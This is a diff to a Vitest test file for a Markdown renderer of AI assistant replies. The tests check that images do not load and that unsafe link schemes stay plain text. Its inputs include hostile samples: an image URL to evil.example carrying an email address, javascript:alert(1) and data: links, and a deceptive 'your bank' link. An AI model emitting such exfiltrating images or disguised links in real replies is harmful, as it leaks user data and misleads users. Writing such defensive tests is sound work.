@@ -1,29 +1,16 @@
 // @vitest-environment jsdom
-import { act } from 'react';
-import { createRoot } from 'react-dom/client';
-import { afterEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
+import { render } from '../../testing/dom';
 import Markdown from './Markdown';
 import { safeLink } from './markdown-links';
 
-(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
-
-const containers: HTMLElement[] = [];
-async function render(text: string): Promise<HTMLElement> {
-  const el = document.createElement('div');
-  document.body.append(el);
-  containers.push(el);
-  await act(async () => createRoot(el).render(<Markdown text={text} />));
-  return el;
-}
-afterEach(() => {
-  containers.splice(0).forEach((c) => c.remove());
-});
+const renderMarkdown = (text: string) => render(<Markdown text={text} />);
 
 const links = (el: HTMLElement) => Array.from(el.querySelectorAll('a')).map((a) => ({ href: a.getAttribute('href'), text: a.textContent, target: a.target, rel: a.rel }));
 
 describe('assistant markdown loads nothing', () => {
   it('shows an image as a link with its whole address, never as <img> (inline, reference or raw HTML)', async () => {
-    const el = await render(
+    const el = await renderMarkdown(
       [
         'Here: ![chart](https://evil.example/p.png?d=ann@example.com)',
         '',
@@ -42,13 +29,13 @@ describe('assistant markdown loads nothing', () => {
   });
 
   it('an image that is not http(s) is not even a link', async () => {
-    const el = await render('![dot](data:image/png;base64,iVBORw0KGgo=) ![x](javascript:alert(1)) ![y](/api/auth/me)');
+    const el = await renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=) ![x](javascript:alert(1)) ![y](/api/auth/me)');
     expect(el.querySelector('img, a')).toBeNull();
     expect(el.textContent).toBe('[Image: dot] [Image: x] [Image: y]');
   });
 
   it('a link shows where it really goes and opens with noopener noreferrer', async () => {
-    const el = await render('See [your bank](https://evil.example/login) or [https://bank.example](https://evil.example/) or <https://docs.example/a> or [write](mailto:help@example.com).');
+    const el = await renderMarkdown('See [your bank](https://evil.example/login) or [https://bank.example](https://evil.example/) or <https://docs.example/a> or [write](mailto:help@example.com).');
     expect(links(el)).toEqual([
       { href: 'https://evil.example/login', text: 'your bank', target: '_blank', rel: 'noopener noreferrer' },
       { href: 'https://evil.example/', text: 'https://bank.example', target: '_blank', rel: 'noopener noreferrer' },
@@ -61,7 +48,7 @@ describe('assistant markdown loads nothing', () => {
   });
 
   it('only http, https and mailto are links; javascript:, data:, relative and other schemes stay text', async () => {
-    const el = await render('[a](javascript:alert(1)) [b](data:text/html,hi) [c](/api/chat) [d](ftp://files.example/x) [e](//evil.example/x)');
+    const el = await renderMarkdown('[a](javascript:alert(1)) [b](data:text/html,hi) [c](/api/chat) [d](ftp://files.example/x) [e](//evil.example/x)');
     expect(el.querySelector('a')).toBeNull();
     expect(el.textContent).toBe('a b c d e');
   });
